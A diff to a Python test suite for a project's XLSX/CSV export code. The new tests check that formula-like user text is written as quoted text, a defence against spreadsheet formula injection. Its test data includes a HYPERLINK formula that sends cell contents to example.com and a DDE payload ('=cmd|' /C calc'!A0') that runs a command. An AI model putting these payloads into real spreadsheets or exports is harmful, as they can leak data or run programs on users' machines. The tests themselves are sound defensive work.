@@ -7,7 +7,7 @@ import io
 
 from openpyxl import load_workbook
 
-from gandan.core.tabular import XLSX_TYPE, download, xlsx
+from gandan.core.tabular import XLSX_TYPE, Column, download, template_csv, template_xlsx, xlsx
 
 
 def test_a_sheet_has_its_header_in_bold_frozen_then_the_rows():
@@ -37,3 +37,47 @@ def test_a_download_is_an_attachment():
     response = download(b"PK", "chi-tieu.xlsx")
     assert response["Content-Type"] == XLSX_TYPE
     assert response["Content-Disposition"] == 'attachment; filename="chi-tieu.xlsx"'
+
+
+HOSTILE = ["=HYPERLINK(\"http://example.com/?\"&A1,\"Bấm vào\")", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1",
+           "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def cells(content: bytes) -> list:
+    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
+
+
+def assert_kept_as_text(cell) -> None:
+    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
+
+
+def test_a_text_that_looks_like_a_formula_is_written_as_text_wherever_it_stands():
+    content = xlsx("Ghi chú", [HOSTILE[0], "Số"], [[text, 1] for text in HOSTILE] + [["Bình thường", 2]],
+                   above=[HOSTILE[1]], percent_columns=(1,))
+    found = cells(content)
+    assert [c for c in found if c.data_type == "f"] == []
+    hostile = [c for c in found if isinstance(c.value, str) and c.value[:1] in "=+-@\t\n"]
+    assert len(hostile) == 2 + len(HOSTILE)
+    for cell in hostile:
+        assert_kept_as_text(cell)
+    assert found[2].value == HOSTILE[0] and found[4].value == "=HYPERLINK(\"http://example.com/?\"&A1,\"Bấm vào\")"
+    normal = next(c for c in found if c.value == "Bình thường")
+    assert normal.data_type == "s" and not normal.quotePrefix
+
+
+def test_numbers_stay_numbers_and_a_typed_minus_stays_text():
+    found = cells(xlsx("Số", ["Số", "Chữ"], [[-5, "-5"], [-0.25, "- 0,25"]]))
+    assert [(c.value, c.data_type, c.quotePrefix) for c in found[2:]] == [
+        (-5, "n", False), ("-5", "s", True), (-0.25, "n", False), ("- 0,25", "s", True)]
+
+
+def test_the_import_templates_keep_formula_like_text_as_text():
+    columns = [Column("=ma", "+code", True, "-mô tả", "@help", example="=1+1"), Column("ten", "name", False, "", "")]
+    book = load_workbook(io.BytesIO(template_xlsx(columns, "Mẫu")))
+    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c for c in found if c.data_type == "f"] == []
+    hostile = [c for c in found if isinstance(c.value, str) and c.value[:1] in "=+-@"]
+    assert {c.value for c in hostile} == {"=ma", "+code", "-mô tả", "@help", "=1+1"}
+    for cell in hostile:
+        assert_kept_as_text(cell)
+    assert template_csv(columns).decode("utf-8") == "\ufeff'=ma,ten\r\n"
